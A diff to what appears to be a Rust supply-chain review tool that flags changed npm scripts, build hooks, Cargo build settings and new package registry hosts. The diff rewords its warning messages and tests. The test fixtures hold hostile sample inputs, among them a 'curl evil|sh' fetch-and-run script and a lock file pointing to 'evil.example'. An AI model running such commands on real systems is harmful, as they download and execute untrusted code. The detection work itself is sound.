@@ -97,7 +97,7 @@ pub fn find_package_risks(path: &RepoPath, old: &[u8], new: &[u8], manifests: &P
             }
             let known: BTreeSet<String> = find_registry_hosts(old).into_iter().map(|(host, _)| host).collect();
             if let Some((host, at)) = find_registry_hosts(new).into_iter().find(|(host, _)| !known.contains(host)) {
-                found.push(medium("lock-host", (format!("takes packages from {host}"), Some(line_number_at(new, at)))));
+                found.push(medium("lock-host", (format!("gets packages from {host}"), Some(line_number_at(new, at)))));
             }
             found
         }
@@ -146,7 +146,7 @@ const INERT_PACKAGE_KEYS: [&str; 32] = [
 fn find_changed_npm_script(old: &[u8], new: &[u8]) -> Option<(String, Option<usize>)> {
     let read = |bytes: &[u8]| if bytes.is_empty() { Ok(Value::Null) } else { serde_json::from_slice::<Value>(bytes) };
     let (Ok(before), Ok(after)) = (read(old), read(new)) else {
-        return Some(("is not the JSON that it should be, so that its scripts are unknown".into(), None));
+        return Some(("is not valid JSON, so its scripts are unknown".into(), None));
     };
     let line = |name: &str| {
         let quoted = serde_json::to_string(name).unwrap_or_default();
@@ -154,10 +154,10 @@ fn find_changed_npm_script(old: &[u8], new: &[u8]) -> Option<(String, Option<usi
     };
     let (old_scripts, new_scripts) = (&before["scripts"], &after["scripts"]);
     if old_scripts != new_scripts {
-        let Some(scripts) = new_scripts.as_object() else { return Some(("has no scripts any more".into(), None)) };
+        let Some(scripts) = new_scripts.as_object() else { return Some(("no longer has scripts".into(), None)) };
         return Some(match scripts.iter().find(|(name, script)| old_scripts.get(name) != Some(script)) {
-            Some((name, _)) => (format!("has another script {name:?}"), line(name)),
-            None => ("has fewer scripts".into(), None),
+            Some((name, _)) => (format!("changes the script {name:?}"), line(name)),
+            None => ("removes scripts".into(), None),
         });
     }
     let keys = |value: &Value| value.as_object().into_iter().flat_map(|o| o.keys().cloned()).collect::<BTreeSet<_>>();
@@ -165,7 +165,7 @@ fn find_changed_npm_script(old: &[u8], new: &[u8]) -> Option<(String, Option<usi
         .union(&keys(&before))
         .find(|key| !INERT_PACKAGE_KEYS.contains(&key.as_str()) && before.get(key.as_str()) != after.get(key.as_str()))?
         .clone();
-    Some((format!("has another {other:?}, by which a tool may run something"), line(&other)))
+    Some((format!("changes {other:?}, which may make a tool run something"), line(&other)))
 }
 
 /// Keys of `[project]` that define code to run.
@@ -175,18 +175,18 @@ const EXECUTABLE_PROJECT_KEYS: [&str; 4] = ["entry-points", "scripts", "gui-scri
 /// excluded.
 fn find_changed_build_hook(old: &[u8], new: &[u8]) -> Option<String> {
     let (Some(old), Some(new)) = (parse_toml(old), parse_toml(new)) else {
-        return Some("is not the TOML that it should be, so that its build hooks are unknown".into());
+        return Some("is not valid TOML, so its build hooks are unknown".into());
     };
     let project_value = |table: &toml::Table, key: &str| table.get("project").and_then(|p| p.get(key)).cloned();
     if let Some(key) =
         EXECUTABLE_PROJECT_KEYS.into_iter().find(|key| project_value(&old, key) != project_value(&new, key))
     {
-        return Some(format!("has another [project] {key}, which says what runs"));
+        return Some(format!("changes [project] {key}, which defines what runs"));
     }
     let keys: BTreeSet<&String> =
         old.keys().chain(new.keys()).filter(|k| *k != "project" && *k != "dependency-groups").collect();
     let other = keys.into_iter().find(|key| old.get(*key) != new.get(*key))?;
-    Some(format!("has another [{other}], which runs on the next build or test"))
+    Some(format!("changes [{other}], which runs on the next build or test"))
 }
 
 /// Returns the severity and reason if a Rust package runs different code when it is built, or takes packages from
@@ -195,18 +195,18 @@ fn find_changed_build_hook(old: &[u8], new: &[u8]) -> Option<String> {
 /// Editors build packages without being asked.
 fn find_changed_cargo_config(old: &[u8], new: &[u8]) -> Option<(Severity, String)> {
     let (Some(old), Some(new)) = (parse_toml(old), parse_toml(new)) else {
-        return Some((Severity::High, "is not the TOML that it should be, so that its build script is unknown".into()));
+        return Some((Severity::High, "is not valid TOML, so its build script is unknown".into()));
     };
     let table_value = |table: &toml::Table, part: &str, key: &str| table.get(part).and_then(|p| p.get(key)).cloned();
     for (part, key) in [("package", "build"), ("package", "links"), ("lib", "proc-macro"), ("lib", "path")] {
         if table_value(&old, part, key) != table_value(&new, part, key)
             && (key != "path" || table_value(&new, part, "proc-macro").is_some())
         {
-            return Some((Severity::High, format!("has another [{part}] {key}: editors build it without being asked")));
+            return Some((Severity::High, format!("changes [{part}] {key}, which editors build automatically")));
         }
     }
     let other = ["patch", "replace"].into_iter().find(|key| old.get(*key) != new.get(*key))?;
-    Some((Severity::Medium, format!("has another [{other}], which takes packages from elsewhere")))
+    Some((Severity::Medium, format!("changes [{other}], which gets packages from another source")))
 }
 
 fn parse_toml(bytes: &[u8]) -> Option<toml::Table> {
@@ -250,14 +250,14 @@ mod tests {
         let of = |new: &str| found("web/Package.json", old, new, &[]);
         assert_eq!(of(&old.replace("x", "y")), []);
         assert_eq!(of(&old.replace(" ", "")), [], "spaces are not scripts");
-        assert_eq!(of(&old.replace("jest", "curl evil|sh")), [("has another script \"test\"".into(), Some(3))]);
+        assert_eq!(of(&old.replace("jest", "curl evil|sh")), [("changes the script \"test\"".into(), Some(3))]);
         assert_eq!(
             of(&old.replace("{\"test\"", "{\n\"postinstall\": \"x\",\"test\"")),
-            [("has another script \"postinstall\"".into(), Some(4))]
+            [("changes the script \"postinstall\"".into(), Some(4))]
         );
-        assert_eq!(of("{\"scripts\": {}}"), [("has fewer scripts".into(), None)]);
-        assert_eq!(of("{}"), [("has no scripts any more".into(), None)]);
-        assert_eq!(of("{"), [("is not the JSON that it should be, so that its scripts are unknown".into(), None)]);
+        assert_eq!(of("{\"scripts\": {}}"), [("removes scripts".into(), None)]);
+        assert_eq!(of("{}"), [("no longer has scripts".into(), None)]);
+        assert_eq!(of("{"), [("is not valid JSON, so its scripts are unknown".into(), None)]);
         // The last of several equal keys counts, for package managers as for this parser.
         assert_eq!(of(&old.replace("}\n}", "}, \"scripts\": {\"test\": \"evil\"}}")).len(), 1);
         assert_eq!(found("package.json", "", "{\"scripts\": {\"a\": \"b\"}}", &[]).len(), 1);
@@ -277,7 +277,7 @@ mod tests {
         assert_eq!(of(&old.replace("\"x\"", "\"y\"")), []);
         assert_eq!(
             of(&old.replace("hatchling", "evil")),
-            [("has another [build-system], which runs on the next build or test".into(), None)]
+            [("changes [build-system], which runs on the next build or test".into(), None)]
         );
         assert_eq!(of(&format!("{old}[tool.pytest]\naddopts = \"-p evil\"\n")).len(), 1);
         assert_eq!(of("[").len(), 1);
@@ -319,7 +319,7 @@ mod tests {
         );
         assert_eq!(
             found("package-lock.json", &npm, &lock("user@Evil.example:8443"), &both),
-            [("takes packages from evil.example".into(), Some(2))]
+            [("gets packages from evil.example".into(), Some(2))]
         );
         // The manifest of a workspace member is below the lock file; manifests elsewhere do not count.
         assert_eq!(found("a/Cargo.lock", "", "", &["a/b/Cargo.toml"]), []);
